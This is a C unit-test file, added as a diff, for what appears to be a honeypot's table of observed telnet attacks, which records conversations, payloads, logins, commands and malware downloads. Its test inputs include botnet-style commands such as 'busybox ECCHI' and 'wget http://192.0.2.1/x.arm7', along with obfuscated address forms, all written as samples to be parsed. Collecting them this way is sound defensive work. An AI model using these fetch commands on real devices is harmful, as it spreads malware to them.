@@ -1,0 +1,433 @@
+/* What was heard becomes rows: by day, contents once, bounded, and with what is in the texts. */
+#include "observe/heard_table.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "base/hash.h"
+
+enum { DAY = 18444 }; /* 2020-07-01 */
+
+/* What was handed over, copied. */
+struct seen {
+    size_t calls, fail_at;
+    struct day_seen {
+        struct heard_rows rows;
+        uint8_t *bytes;
+        struct conversation_row conversations[8];
+        struct payload_row payloads[8];
+        struct payload_event_row events[16];
+        struct login_row logins[8];
+        struct command_row commands[8];
+        struct download_row downloads[16];
+    } days[4];
+};
+
+#define COPY(to, from, count)                                                                      \
+    memcpy(to, from, (count) * sizeof to[0] < sizeof to ? (count) * sizeof to[0] : sizeof to)
+
+static bool see(void *context, const struct heard_rows *rows, struct error *error)
+{
+    struct seen *seen = context;
+    if (++seen->calls == seen->fail_at)
+        return error_set(error, ERROR_FAILED, "the disk is full");
+    struct day_seen *day = &seen->days[seen->calls - 1];
+    day->rows = *rows;
+    day->bytes = malloc(rows->bytes_count + 1);
+    assert_non_null(day->bytes);
+    if (rows->bytes_count > 0)
+        memcpy(day->bytes, rows->bytes, rows->bytes_count);
+    if (rows->conversation_count > 0)
+        COPY(day->conversations, rows->conversations, rows->conversation_count);
+    if (rows->payload_count > 0)
+        COPY(day->payloads, rows->payloads, rows->payload_count);
+    if (rows->payload_event_count > 0)
+        COPY(day->events, rows->payload_events, rows->payload_event_count);
+    if (rows->login_count > 0)
+        COPY(day->logins, rows->logins, rows->login_count);
+    if (rows->command_count > 0)
+        COPY(day->commands, rows->commands, rows->command_count);
+    if (rows->download_count > 0)
+        COPY(day->downloads, rows->downloads, rows->download_count);
+    return true;
+}
+
+static void seen_clear(struct seen *seen)
+{
+    for (size_t i = 0; i < 4; i++)
+        free(seen->days[i].bytes);
+    *seen = (struct seen){0};
+}
+
+static struct heard_table *table_of(size_t limit_bytes)
+{
+    struct error error = {0};
+    struct heard_table *table = heard_table_create(limit_bytes, &error);
+    assert_non_null(table);
+    return table;
+}
+
+static void hand_over(struct heard_table *table, struct seen *seen)
+{
+    struct error error = {0};
+    assert_true(heard_table_hand_over(table, see, seen, &error));
+    assert_true(heard_table_is_empty(table));
+}
+
+static struct heard heard_of(enum heard_kind kind, uint32_t day, uint32_t second)
+{
+    return (struct heard){.kind = kind,
+                          .talk = {.src = ipv6_of_ipv4((struct ipv4){0xc0000209}), /* 192.0.2.9 */
+                                   .dst = ipv6_of_ipv4((struct ipv4){0xcb007105}),
+                                   .src_port = 40000,
+                                   .dst_port = 23,
+                                   .protocol = 6},
+                          .time = {((int64_t)day * S_PER_DAY + second) * NS_PER_S + 1999}};
+}
+
+static struct heard_bytes bytes_of(const char *text)
+{
+    return (struct heard_bytes){(const uint8_t *)text, (uint32_t)strlen(text)};
+}
+
+static void take_command(struct heard_table *table, uint32_t day, const char *text)
+{
+    struct heard heard = heard_of(HEARD_COMMAND, day, 5);
+    heard.command = bytes_of(text);
+    heard_table_take(table, &heard);
+}
+
+static void take_payload(struct heard_table *table, uint32_t day, const void *bytes,
+                         uint32_t length, bool cut, bool dialogue)
+{
+    struct heard heard = heard_of(HEARD_PAYLOAD, day, 6);
+    heard.payload =
+        (struct heard_payload){.bytes = {bytes, length}, .cut = cut, .dialogue = dialogue};
+    heard_table_take(table, &heard);
+}
+
+static void take_login(struct heard_table *table, const char *user, const char *password)
+{
+    struct heard heard = heard_of(HEARD_LOGIN, DAY, 7);
+    heard.login = (struct heard_login){bytes_of(user), bytes_of(password), true};
+    heard_table_take(table, &heard);
+}
+
+static void assert_text(const struct day_seen *day, struct text_ref ref, const char *expected)
+{
+    assert_int_equal(ref.length, strlen(expected));
+    assert_true((size_t)ref.at + ref.length <= day->rows.bytes_count);
+    assert_memory_equal(day->bytes + ref.at, expected, ref.length);
+}
+
+/* ---- Records become rows ---- */
+
+static void a_conversation_keeps_its_numbers(void **state)
+{
+    (void)state;
+    struct seen seen = {0};
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    struct heard heard = heard_of(HEARD_CONVERSATION, DAY, 3);
+    heard.conversation = (struct heard_conversation){.duration_ns = 1500000999,
+                                                     .bytes_in = 7,
+                                                     .bytes_out = 8,
+                                                     .packets_in = 9,
+                                                     .engine = ENGINE_TELNET,
+                                                     .end = TALK_END_LIMIT,
+                                                     .two_phase = true,
+                                                     .probe_tool = 2,
+                                                     .probe_gap_ns = 3000000};
+    heard_table_take(table, &heard);
+    hand_over(table, &seen);
+    const struct conversation_row *row = &seen.days[0].conversations[0];
+    assert_int_equal(seen.calls, 1);
+    assert_int_equal(seen.days[0].rows.day, DAY);
+    assert_int_equal(seen.days[0].rows.conversation_count, 1);
+    assert_int_equal(row->time_us, ((int64_t)DAY * S_PER_DAY + 3) * US_PER_S + 1);
+    assert_int_equal(row->duration_us, 1500000);
+    assert_int_equal(row->probe_gap_us, 3000);
+    assert_int_equal(row->bytes_in, 7);
+    assert_int_equal(row->bytes_out, 8);
+    assert_int_equal(row->packets_in, 9);
+    assert_int_equal(row->engine, ENGINE_TELNET);
+    assert_int_equal(row->end, TALK_END_LIMIT);
+    assert_int_equal(row->probe_tool, 2);
+    assert_true(row->two_phase);
+    assert_memory_equal(&row->talk, &heard.talk, sizeof heard.talk);
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+static void texts_come_back_and_are_cut_at_their_limits(void **state)
+{
+    (void)state;
+    struct seen seen = {0};
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    char *text = malloc(HEARD_COMMAND_BYTES + 10);
+    memset(text, 'c', HEARD_COMMAND_BYTES + 9);
+    text[HEARD_COMMAND_BYTES + 9] = '\0';
+    take_login(table, "root", "");
+    take_login(table, "root", text);
+    take_command(table, DAY, text);
+    take_command(table, DAY, "busybox ECCHI");
+    hand_over(table, &seen);
+    const struct day_seen *day = &seen.days[0];
+    assert_int_equal(day->rows.login_count, 2);
+    assert_text(day, day->logins[0].user, "root");
+    assert_text(day, day->logins[0].password, "");
+    assert_true(day->logins[0].accepted);
+    assert_int_equal(day->logins[1].password.length, HEARD_LOGIN_BYTES);
+    assert_int_equal(day->commands[0].text.length, HEARD_COMMAND_BYTES);
+    assert_text(day, day->commands[0].token, "");
+    assert_text(day, day->commands[1].text, "busybox ECCHI");
+    assert_text(day, day->commands[1].token, "ECCHI");
+    free(text);
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+/* ---- Contents ---- */
+
+static void a_content_is_kept_once_a_day_and_told_each_time(void **state)
+{
+    (void)state;
+    struct seen seen = {0};
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    take_payload(table, DAY, "a\0b", 3, false, false);
+    take_payload(table, DAY, "a\0c", 3, false, false);
+    take_payload(table, DAY, "a\0b", 3, true, false);
+    take_payload(table, DAY, "", 0, false, false);
+    take_payload(table, DAY + 1, "a\0b", 3, false, false);
+    hand_over(table, &seen);
+    const struct day_seen *day = &seen.days[0];
+    assert_int_equal(seen.calls, 2);
+    assert_int_equal(day->rows.payload_count, 2);
+    assert_int_equal(day->rows.payload_event_count, 3);
+    assert_int_equal(seen.days[1].rows.payload_count, 1);
+    assert_true(day->payloads[0].cut);
+    assert_false(day->payloads[1].cut);
+    assert_memory_equal(day->bytes + day->payloads[1].bytes.at, "a\0c", 3);
+    assert_memory_equal(day->events[0].id, day->payloads[0].id, PAYLOAD_ID_BYTES);
+    assert_memory_equal(day->events[1].id, day->payloads[1].id, PAYLOAD_ID_BYTES);
+    assert_memory_equal(day->events[2].id, day->payloads[0].id, PAYLOAD_ID_BYTES);
+    assert_int_equal(heard_counts(table).payloads, 3);
+    assert_int_equal(heard_counts(table).payload_events, 4);
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+static void the_id_is_the_content_hash(void **state)
+{
+    (void)state;
+    static const char content[] = "GET / HTTP/1.0\r\n\r\n";
+    struct seen seen = {0};
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    char expected[CONTENT_HASH_TEXT_SIZE], id[CONTENT_HASH_TEXT_SIZE] = "";
+    struct content_hash *hash = content_hash_create();
+    content_hash_add(hash, content, sizeof content - 1);
+    content_hash_get(hash, expected);
+    content_hash_destroy(hash);
+    take_payload(table, DAY, content, sizeof content - 1, false, false);
+    hand_over(table, &seen);
+    for (size_t i = 0; i < PAYLOAD_ID_BYTES; i++)
+        snprintf(id + 2 * i, 3, "%02x", seen.days[0].payloads[0].id[i]);
+    assert_string_equal(id, expected);
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+static void thousands_of_contents_are_found_again(void **state)
+{
+    (void)state;
+    enum { CONTENTS = 5000 };
+    struct seen seen = {0};
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    for (uint32_t round = 0; round < 2; round++)
+        for (uint32_t i = 0; i < CONTENTS; i++)
+            take_payload(table, DAY, &i, sizeof i, false, true);
+    hand_over(table, &seen);
+    assert_int_equal(seen.days[0].rows.payload_count, CONTENTS);
+    assert_int_equal(seen.days[0].rows.payload_event_count, 2 * CONTENTS);
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+static void what_the_store_does_not_take_of_a_content_is_cut(void **state)
+{
+    (void)state;
+    enum { LIMIT = 64 * 1024 };
+    struct seen seen = {0};
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    uint8_t *large = calloc(1, LIMIT + 1);
+    take_payload(table, DAY, large, LIMIT + 1, false, true);
+    hand_over(table, &seen);
+    assert_int_equal(seen.days[0].payloads[0].bytes.length, LIMIT);
+    assert_true(seen.days[0].payloads[0].cut);
+    free(large);
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+/* ---- What is in the texts ---- */
+
+static void downloads_come_from_commands_and_from_payloads_that_are_no_dialogue(void **state)
+{
+    (void)state;
+    struct seen seen = {0};
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    take_command(table, DAY, "wget http://192.0.2.1/x.arm7; wget http://192.0.2.2/x.arm7");
+    take_payload(table, DAY, "wget http://192.0.2.3/x.arm7", 28, false, false);
+    take_payload(table, DAY, "wget http://192.0.2.4/x.arm7", 28, false, true);
+    hand_over(table, &seen);
+    const struct day_seen *day = &seen.days[0];
+    assert_int_equal(day->rows.download_count, 3);
+    assert_text(day, day->downloads[0].host, "192.0.2.1");
+    assert_text(day, day->downloads[1].url, "http://192.0.2.2/x.arm7");
+    assert_text(day, day->downloads[2].host, "192.0.2.3");
+    assert_text(day, day->downloads[2].file, "x.arm7");
+    assert_text(day, day->downloads[2].cpu, "arm7");
+    assert_int_equal(heard_counts(table).downloads, 3);
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+static void the_host_is_the_source_in_any_form_of_its_address(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *host;
+        bool ipv4, ipv6; /* whether it is 192.0.2.9; 2001:db8::9 */
+    } cases[] = {
+        {"192.0.2.9", true, false},
+        {"192.0.2.10", false, false},
+        {"192.0.2.9.example.net", false, false},
+        {"3221225993", true, false},
+        {"0xc0.0.02.011", true, false},
+        {"[::ffff:192.0.2.9]", true, false},
+        {"[2001:DB8:0::9]", false, true},
+        {"YOURIPHERE", false, false},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        struct seen seen = {0};
+        struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+        char text[64];
+        struct heard heard = heard_of(HEARD_COMMAND, DAY, 1);
+        snprintf(text, sizeof text, "wget http://%s/x", cases[i].host);
+        heard.command = bytes_of(text);
+        heard_table_take(table, &heard);
+        assert_true(ipv6_parse("2001:db8::9", 11, &heard.talk.src));
+        heard_table_take(table, &heard);
+        hand_over(table, &seen);
+        if (seen.days[0].downloads[0].host_is_source != cases[i].ipv4 ||
+            seen.days[0].downloads[1].host_is_source != cases[i].ipv6)
+            fail_msg("%s", cases[i].host);
+        seen_clear(&seen);
+        heard_table_destroy(table);
+    }
+}
+
+/* ---- Bounds ---- */
+
+static void rows_that_do_not_fit_are_dropped_and_counted(void **state)
+{
+    (void)state;
+    enum { ROUNDS = 100000, LIMIT = 256 * 1024 };
+    struct seen seen = {0};
+    struct heard_table *table = table_of(LIMIT);
+    for (uint32_t i = 0; i < ROUNDS; i++) {
+        take_payload(table, DAY, &i, sizeof i, false, true);
+        take_command(table, DAY, "wget http://192.0.2.1/x");
+    }
+    struct heard_counts counts = heard_counts(table);
+    assert_true(counts.dropped > 0);
+    assert_int_equal(counts.payload_events + counts.commands + counts.downloads + counts.dropped,
+                     3 * ROUNDS);
+    hand_over(table, &seen);
+    const struct heard_rows *rows = &seen.days[0].rows;
+    assert_int_equal(rows->payload_event_count, counts.payload_events);
+    assert_int_equal(rows->payload_count, counts.payloads);
+    assert_true(rows->bytes_count + rows->payload_event_count * sizeof(struct payload_event_row) +
+                    rows->payload_count * sizeof(struct payload_row) +
+                    rows->command_count * sizeof(struct command_row) +
+                    rows->download_count * sizeof(struct download_row) <=
+                LIMIT);
+    /* And there is room again. */
+    take_command(table, DAY, "ls");
+    assert_int_equal(heard_counts(table).dropped, counts.dropped);
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+static void times_outside_of_all_days_are_dropped(void **state)
+{
+    (void)state;
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    struct heard heard = heard_of(HEARD_CONVERSATION, DAY, 1);
+    heard.time.ns = -1;
+    heard_table_take(table, &heard);
+    heard.time.ns = INT64_MAX;
+    heard_table_take(table, &heard);
+    assert_int_equal(heard_counts(table).dropped, 2);
+    assert_true(heard_table_is_empty(table));
+    heard_table_destroy(table);
+}
+
+/* ---- Handing over ---- */
+
+static void days_are_handed_over_in_order(void **state)
+{
+    (void)state;
+    struct seen seen = {0};
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    take_command(table, DAY + 1, "second");
+    take_command(table, DAY, "first");
+    take_command(table, DAY + 2, "third");
+    hand_over(table, &seen);
+    assert_int_equal(seen.calls, 3);
+    for (uint32_t i = 0; i < 3; i++)
+        assert_int_equal(seen.days[i].rows.day, DAY + i);
+    assert_text(&seen.days[0], seen.days[0].commands[0].text, "first");
+    seen_clear(&seen);
+    heard_table_destroy(table);
+}
+
+static void a_failure_is_told_and_the_table_is_empty(void **state)
+{
+    (void)state;
+    struct error error = {0};
+    struct seen seen = {.fail_at = 1};
+    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
+    take_command(table, DAY, "ls");
+    take_command(table, DAY + 1, "ls");
+    assert_false(heard_table_hand_over(table, see, &seen, &error));
+    assert_string_equal(error.text, "the disk is full");
+    assert_int_equal(seen.calls, 1);
+    assert_true(heard_table_is_empty(table));
+    heard_table_destroy(table);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(a_conversation_keeps_its_numbers),
+        cmocka_unit_test(texts_come_back_and_are_cut_at_their_limits),
+        cmocka_unit_test(a_content_is_kept_once_a_day_and_told_each_time),
+        cmocka_unit_test(the_id_is_the_content_hash),
+        cmocka_unit_test(thousands_of_contents_are_found_again),
+        cmocka_unit_test(what_the_store_does_not_take_of_a_content_is_cut),
+        cmocka_unit_test(downloads_come_from_commands_and_from_payloads_that_are_no_dialogue),
+        cmocka_unit_test(the_host_is_the_source_in_any_form_of_its_address),
+        cmocka_unit_test(rows_that_do_not_fit_are_dropped_and_counted),
+        cmocka_unit_test(times_outside_of_all_days_are_dropped),
+        cmocka_unit_test(days_are_handed_over_in_order),
+        cmocka_unit_test(a_failure_is_told_and_the_table_is_empty),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
